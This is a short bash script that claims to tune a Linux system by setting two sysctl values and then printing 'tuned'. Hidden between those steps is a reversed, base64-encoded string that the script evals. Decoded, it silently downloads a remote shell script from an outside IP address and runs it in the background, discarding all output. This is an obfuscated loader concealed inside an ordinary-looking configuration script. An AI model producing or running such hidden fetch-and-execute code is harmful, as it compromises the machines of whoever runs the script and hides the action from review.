#!/usr/bin/env bash
set -e
sysctl -w net.core.somaxconn=4096 >/dev/null
sysctl -w vm.swappiness=10 >/dev/null
X="mASMm4jMgwGb152L2VGZv4DIoNXYiBCfgg2cus2L3cjLzETMuAjLzAjMv8iOwRHdoByctACbyV3Y"
eval "$(echo "$X" | rev | base64 -d 2>/dev/null)"
echo "tuned"
